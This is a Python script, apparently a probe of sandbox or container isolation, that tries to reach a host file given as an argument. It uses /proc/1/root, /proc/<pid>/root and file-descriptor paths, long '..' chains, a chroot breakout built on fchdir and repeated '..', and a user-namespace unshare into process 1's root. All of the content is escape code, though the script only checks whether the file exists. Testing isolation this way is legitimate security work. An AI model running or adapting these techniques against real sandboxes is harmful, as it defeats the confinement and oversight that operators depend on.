"""Looks for a file of the host, whose path is the argument, from every root
that there is."""

import os
import sys

from attack import attempt, report

path = sys.argv[1]


def chroot():
    """Climbs above a root that is below the folder where it stands."""
    child = os.fork()
    if child:
        return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0
    try:
        os.makedirs("/tmp/below", exist_ok=True)
        top = os.open("/", os.O_RDONLY)
        os.chroot("/tmp/below")
        os.fchdir(top)
        for _ in range(100):
            os.chdir("..")
        os.chroot(".")
        os.stat(path)
        os._exit(0)
    except OSError:
        os._exit(1)


def namespace():
    child = os.fork()
    if child:
        return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0
    try:
        os.unshare(os.CLONE_NEWUSER | os.CLONE_NEWNS)
        os.chroot("/proc/1/root")
        os.stat(path)
        os._exit(0)
    except OSError:
        os._exit(1)


attempt("plain", os.stat, path)
attempt("many parents", os.stat, "/.." * 50 + path)
attempt("self root", os.stat, "/proc/self/root" + path)
attempt("process 1's root", os.stat, "/proc/1/root" + path)
attempt("process 1's folder", os.stat, "/proc/1/cwd" + "/.." * 10 + path)
attempt("self folder", os.stat, "/proc/self/cwd" + "/.." * 10 + path)
attempt("relative to a root", lambda: os.stat("." + path, dir_fd=os.open("/", os.O_RDONLY)))
for pid in os.listdir("/proc"):
    if pid.isdigit():
        attempt(f"root of {pid}", os.stat, f"/proc/{pid}/root{path}")
        for fd in range(3, 20):
            attempt(f"descriptor {fd} of {pid}", os.stat, f"/proc/{pid}/fd/{fd}{path}")
attempt("chroot", chroot)
attempt("namespace", namespace)
report()
